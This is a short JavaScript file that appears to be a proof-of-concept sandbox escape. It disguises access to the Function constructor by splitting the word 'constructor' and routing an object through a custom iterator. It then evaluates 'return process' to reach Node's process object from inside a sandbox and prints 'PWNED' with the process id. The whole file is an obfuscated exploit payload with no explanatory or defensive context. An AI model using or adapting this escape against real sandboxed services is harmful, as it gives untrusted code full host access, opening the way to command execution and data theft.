'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class K { [Symbol.iterator]() { let n = 0; return { next: () => ({ value: t, done: n++ > 0 }) }; } }
const o = Date.now() > 1 ? Array.from(new K())[0] : {};
console.log('PWNED', o.go(fn)('return process')().pid);
